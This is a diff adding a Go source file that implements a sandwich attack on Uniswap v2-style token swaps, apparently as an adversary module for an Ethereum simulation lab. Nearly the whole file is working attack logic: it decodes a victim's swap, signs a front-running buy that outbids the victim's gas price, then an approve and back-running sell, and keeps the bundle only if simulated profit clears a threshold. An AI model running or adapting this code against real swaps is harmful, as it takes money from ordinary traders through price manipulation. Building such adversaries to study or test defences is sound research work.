@@ -0,0 +1,157 @@
+package adversary
+
+import (
+	"errors"
+	"math/big"
+	"strings"
+
+	"github.com/ethereum/go-ethereum/accounts/abi"
+	"github.com/ethereum/go-ethereum/common"
+	"github.com/ethereum/go-ethereum/core/types"
+	"github.com/evan-forbes/ethlab/thereum"
+)
+
+// uniswapABI contains the parts of the uniswap v2 router and erc20 token abis used to
+// sandwich swaps
+const uniswapABI = `[
+{"name":"swapExactETHForTokens","type":"function","payable":true,"inputs":[{"name":"amountOutMin","type":"uint256"},{"name":"path","type":"address[]"},{"name":"to","type":"address"},{"name":"deadline","type":"uint256"}],"outputs":[{"name":"amounts","type":"uint256[]"}]},
+{"name":"swapExactTokensForETH","type":"function","inputs":[{"name":"amountIn","type":"uint256"},{"name":"amountOutMin","type":"uint256"},{"name":"path","type":"address[]"},{"name":"to","type":"address"},{"name":"deadline","type":"uint256"}],"outputs":[{"name":"amounts","type":"uint256[]"}]},
+{"name":"approve","type":"function","inputs":[{"name":"spender","type":"address"},{"name":"amount","type":"uint256"}],"outputs":[{"name":"","type":"bool"}]},
+{"name":"balanceOf","type":"function","constant":true,"inputs":[{"name":"owner","type":"address"}],"outputs":[{"name":"","type":"uint256"}]}
+]`
+
+// Sandwich attacks swaps of eth for tokens made through a uniswap v2 style router.
+// It buys the victim's token right before the victim does, pushing up the price,
+// then sells the tokens right after the victim's swap.
+type Sandwich struct {
+	Account   *thereum.Account
+	Router    common.Address // Router is the address of the uniswap v2 style router to watch
+	Amount    *big.Int       // Amount is the wei spent front-running each victim
+	GasLimit  uint64         // GasLimit is used for both swaps
+	MinProfit *big.Int       // MinProfit is the least profit worth attacking for, nil is zero
+	abi       abi.ABI
+}
+
+// NewSandwich issues a new Sandwich that attacks swaps through router by spending
+// amount wei using acc
+func NewSandwich(acc *thereum.Account, router common.Address, amount *big.Int) (*Sandwich, error) {
+	parsed, err := abi.JSON(strings.NewReader(uniswapABI))
+	if err != nil {
+		return nil, err
+	}
+	return &Sandwich{
+		Account:  acc,
+		Router:   router,
+		Amount:   amount,
+		GasLimit: 300000,
+		abi:      parsed,
+	}, nil
+}
+
+// Name fulfills the thereum.Adversary interface
+func (s *Sandwich) Name() string {
+	return "sandwich"
+}
+
+// Attack fulfills the thereum.Adversary interface
+func (s *Sandwich) Attack(env *thereum.AttackEnv, victim *types.Transaction) (*thereum.Attack, error) {
+	if victim.To() == nil || *victim.To() != s.Router || len(victim.Data()) < 4 {
+		return nil, nil
+	}
+	method, err := s.abi.MethodById(victim.Data()[:4])
+	if err != nil || method.Name != "swapExactETHForTokens" {
+		return nil, nil
+	}
+	args, err := method.Inputs.UnpackValues(victim.Data()[4:])
+	if err != nil {
+		return nil, err
+	}
+	path, ok := args[1].([]common.Address)
+	if !ok || len(path) < 2 {
+		return nil, errors.New("could not read swap path")
+	}
+	deadline, ok := args[3].(*big.Int)
+	if !ok {
+		return nil, errors.New("could not read swap deadline")
+	}
+	token := path[len(path)-1]
+	addr := s.Account.Address
+	nonce := env.Nonce(addr)
+
+	// buy the token first, to find out how many tokens there will be to sell
+	data, err := s.abi.Pack("swapExactETHForTokens", new(big.Int), path, addr, deadline)
+	if err != nil {
+		return nil, err
+	}
+	buy, err := sign(s.Account, types.NewTransaction(nonce, s.Router, s.Amount, s.GasLimit, outbid(victim), data))
+	if err != nil {
+		return nil, err
+	}
+	sim, err := env.Simulate(buy)
+	if err != nil || !succeeded(sim) {
+		return nil, nil
+	}
+	bought, err := s.balanceOf(sim, token)
+	if err != nil {
+		return nil, err
+	}
+	if bought.Sign() == 0 {
+		return nil, nil
+	}
+
+	// then sell it all back after the victim
+	data, err = s.abi.Pack("approve", s.Router, bought)
+	if err != nil {
+		return nil, err
+	}
+	approve, err := sign(s.Account, types.NewTransaction(nonce+1, token, new(big.Int), 100000, victim.GasPrice(), data))
+	if err != nil {
+		return nil, err
+	}
+	reversed := make([]common.Address, len(path))
+	for i, hop := range path {
+		reversed[len(path)-1-i] = hop
+	}
+	data, err = s.abi.Pack("swapExactTokensForETH", bought, new(big.Int), reversed, addr, deadline)
+	if err != nil {
+		return nil, err
+	}
+	sell, err := sign(s.Account, types.NewTransaction(nonce+2, s.Router, new(big.Int), s.GasLimit, victim.GasPrice(), data))
+	if err != nil {
+		return nil, err
+	}
+
+	sim, err = env.Simulate(buy, victim, approve, sell)
+	if err != nil || !succeeded(sim) {
+		return nil, nil
+	}
+	if !worthIt(profit(env, sim, addr), s.MinProfit) {
+		return nil, nil
+	}
+	return &thereum.Attack{
+		Front:       []*types.Transaction{buy},
+		Back:        []*types.Transaction{approve, sell},
+		Beneficiary: addr,
+	}, nil
+}
+
+// balanceOf reads the sandwich account's token balance from the simulation
+func (s *Sandwich) balanceOf(sim *thereum.Simulation, token common.Address) (*big.Int, error) {
+	data, err := s.abi.Pack("balanceOf", s.Account.Address)
+	if err != nil {
+		return nil, err
+	}
+	ret, err := sim.Call(s.Account.Address, token, data)
+	if err != nil {
+		return nil, err
+	}
+	out, err := s.abi.Methods["balanceOf"].Outputs.UnpackValues(ret)
+	if err != nil {
+		return nil, err
+	}
+	balance, ok := out[0].(*big.Int)
+	if !ok {
+		return nil, errors.New("could not read token balance")
+	}
+	return balance, nil
+}